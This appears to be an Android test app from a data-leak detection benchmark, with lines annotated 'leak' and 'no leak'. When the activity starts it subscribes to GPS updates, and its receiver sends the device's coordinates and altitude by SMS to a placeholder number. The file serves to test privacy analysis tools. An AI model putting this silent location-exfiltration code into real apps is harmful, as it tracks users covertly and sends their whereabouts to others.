package ways;

import android.app.Activity;
import android.app.PendingIntent;
import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.location.Location;
import android.location.LocationManager;
import android.os.Bundle;
import android.telephony.SmsManager;
import java.util.ArrayList;

/** Places come to a receiver, and go as messages. */
public class PlacePending extends Activity {
    public static class Fix extends BroadcastReceiver {
        @Override
        public void onReceive(Context context, Intent intent) {
            Location at = (Location) intent.getExtras().get(LocationManager.KEY_LOCATION_CHANGED);
            if (at == null) return;
            SmsManager sms = SmsManager.getDefault();
            String link = "http://maps.google.com/maps?q=" + at.getLatitude() + "," + at.getLongitude();
            ArrayList<String> parts = sms.divideMessage(link);
            sms.sendMultipartTextMessage("+15550100", null, parts, null, null); // leak
            sms.sendMultipartTextMessage("+15550100", null, sms.divideMessage("ok"), null, null); // no leak
            byte[] raw = Double.toString(at.getAltitude()).getBytes();
            sms.sendDataMessage("+15550100", null, (short) 6734, raw, null, null); // leak
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        LocationManager manager = (LocationManager) getSystemService(LOCATION_SERVICE);
        PendingIntent pending = PendingIntent.getBroadcast(this, 0, new Intent(this, Fix.class), PendingIntent.FLAG_UPDATE_CURRENT);
        manager.requestLocationUpdates(LocationManager.GPS_PROVIDER, 1000, 1, pending);
    }
}
